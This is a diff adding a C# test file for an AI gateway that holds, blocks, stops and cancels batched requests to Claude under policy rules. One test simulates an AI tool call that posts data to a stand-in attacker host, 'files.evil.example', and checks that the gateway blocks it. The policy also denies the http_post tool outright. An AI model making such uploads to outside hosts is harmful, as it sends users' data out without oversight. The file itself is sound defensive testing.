@@ -1,0 +1,132 @@
+using System.Net;
+using System.Text.Json;
+using SaaSGate.Contracts.Ids;
+using SaaSGate.Contracts.RegionLink;
+using SaaSGate.Gateway.Tests.Support;
+using SaaSGate.Simulator;
+using SaaSGate.TestKit;
+using Xunit;
+
+namespace SaaSGate.Gateway.Tests.Batches;
+
+public sealed class StoppedBatchTests
+{
+    private const string Policy = """
+        rules:
+          - name: bulk-export
+            on: request
+            when: { text: '(?i)\bexport\b' }
+            then: hold
+            hold: { timeout: 5m }
+          - name: forbidden
+            on: request
+            when: { text: 'forbidden' }
+            then: block
+          - name: uploads
+            on: tool_use
+            when: { tools: [http_post] }
+            then: block
+        """;
+
+    private static readonly SimulatorOptions Slow = new() { BatchDuration = TimeSpan.FromHours(1) };
+
+    private static CancellationToken Cancellation => Bounded.Cancellation;
+
+    [Fact]
+    public async Task Holds_the_whole_batch_and_shows_the_reviewer_all_of_it()
+    {
+        await using var rig = await GatewayRig.StartAsync(Policy, Slow);
+        var sending = rig.SendAsync(BatchCalls.Batch(("first", "hello"), ("second", "please export all")), BatchCalls.Path);
+        var hold = await rig.Peer.Holds.WaitForAsync(_ => true, Cancellation);
+        Assert.Empty(rig.Simulator.Received.All);
+        using (var view = JsonDocument.Parse(hold.View.ToStringUtf8()))
+        {
+            Assert.Equal(
+                ["Request 1 of 2: first", "hello", "Request 2 of 2: second", "please export all"],
+                view.RootElement.GetProperty("messages").EnumerateArray().Select(message => message.GetProperty("content").GetString()));
+            Assert.Equal("2 requests, the first: hello", view.RootElement.GetProperty("summary").GetString());
+        }
+        rig.Peer.Decide(hold, ApprovalState.Approved);
+        using var response = await sending;
+        Assert.Equal("in_progress", (await BatchCalls.JsonAsync(response)).GetProperty("processing_status").GetString());
+    }
+
+    [Fact]
+    public async Task Blocks_a_batch_for_one_request_in_it()
+    {
+        await using var rig = await GatewayRig.StartAsync(Policy, Slow);
+        using var response = await rig.SendAsync(BatchCalls.Batch(("one", "export"), ("two", "hello"), ("three", "forbidden")), BatchCalls.Path);
+        Assert.Equal("blocked", await MessagesHandlerTests.CodeOfAsync(response, HttpStatusCode.Forbidden, "permission_error"));
+        Assert.Empty(rig.Simulator.Received.All);
+        Assert.DoesNotContain(await rig.RecordOfAsync(response), frame => frame.Batch is not null);
+    }
+
+    [Fact]
+    public async Task Judges_tool_calls_in_results()
+    {
+        await using var rig = await GatewayRig.StartAsync(Policy);
+        var id = await rig.CreateAsync(("one", "hello"), ("two", """[[sim: tool=http_post input={"url":"https://files.evil.example"}]]"""));
+        using var response = await rig.SendAsync("", $"{BatchCalls.Path}/{id}/results", HttpMethod.Get);
+        Assert.Equal("blocked", await MessagesHandlerTests.CodeOfAsync(response, HttpStatusCode.Forbidden, "permission_error"));
+        Assert.DoesNotContain(await rig.RecordOfAsync(response), frame => frame.Chunk?.Data.ToStringUtf8().Contains("evil", StringComparison.Ordinal) == true);
+    }
+
+    [Fact]
+    public async Task Learns_the_id_of_a_batch_that_a_stop_overtook()
+    {
+        const string Id = "msgbatch_01Overtaken";
+        var answered = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
+        await using var slow = await SlowUpstream.StartAsync($$"""{"id":"{{Id}}","type":"message_batch","processing_status":"in_progress"}""", answered.Task);
+        await using var rig = await GatewayRig.StartAsync();
+        rig.Tenant.Upstream = slow.BaseUrl;
+        await PublishAsync(rig);
+        var sending = rig.SendAsync(BatchCalls.Batch(("one", "hello")), BatchCalls.Path);
+        await slow.Asked;
+        rig.Peer.Stop(rig.Tenant, StopKind.Skill, rig.Tenant.SkillId);
+        await rig.Peer.Effects.WaitForAsync(effect => effect.StreamsCut == 1, Cancellation);
+        answered.SetResult();
+
+        using var response = await sending;
+        Assert.Equal("stopped", await MessagesHandlerTests.CodeOfAsync(response, HttpStatusCode.Forbidden, "permission_error"));
+        var record = await rig.RecordOfAsync(response);
+        Assert.Equal((Id, "cut"), (record.Last(frame => frame.Batch is not null).Batch.BatchId, record[^1].Ended.Outcome));
+    }
+
+    [Fact]
+    public async Task Cancels_at_Claude_what_it_is_told_to_and_says_what_came_of_it()
+    {
+        await using var rig = await GatewayRig.StartAsync(simulator: Slow);
+        var id = await rig.CreateAsync(("one", "hello"));
+        rig.Peer.Stop(rig.Tenant, StopKind.Skill, rig.Tenant.SkillId);
+
+        rig.Simulator.SetBatches(failingCancels: 1, status: 529);
+        Assert.Equal(("", "http_529"), await CancelAsync(rig, id));
+        Assert.Equal(("cancelled", ""), await CancelAsync(rig, id));
+        Assert.Equal(("ended", ""), await CancelAsync(rig, id));
+        Assert.Equal(("gone", ""), await CancelAsync(rig, "msgbatch_01Unknown"));
+        rig.Simulator.SetBatches(failingCancels: 1, status: 401);
+        Assert.Equal(("", "credential_refused"), await CancelAsync(rig, id));
+        var received = rig.Simulator.Received.All[^1];
+        Assert.Equal("sk-upstream-credential", received.Header("x-api-key"));
+
+        rig.Tenant.Upstream = new Uri("http://127.0.0.1:1");
+        await PublishAsync(rig);
+        Assert.Equal(("", "upstream_unreachable"), await CancelAsync(rig, id));
+    }
+
+    private static async Task PublishAsync(GatewayRig rig)
+    {
+        rig.Peer.Publish(rig.Tenant);
+        var position = rig.Peer.Renewals.Items.Max(renewal => renewal.ViewPosition);
+        await rig.Peer.Renewals.WaitForAsync(renewal => renewal.ViewPosition > position, Cancellation);
+    }
+
+    private static async Task<(string State, string Problem)> CancelAsync(GatewayRig rig, string batch)
+    {
+        var exchange = Id<Exchange>.New(TimeProvider.System).Value;
+        rig.Peer.Cancel(rig.Tenant, batch, exchange);
+        var outcome = await rig.Peer.BatchesCancelled.WaitForAsync(told => told.ExchangeId == exchange, Cancellation);
+        Assert.Equal((rig.Tenant.OrganisationId, batch), (outcome.OrganisationId, outcome.BatchId));
+        return (outcome.State, outcome.Problem);
+    }
+}
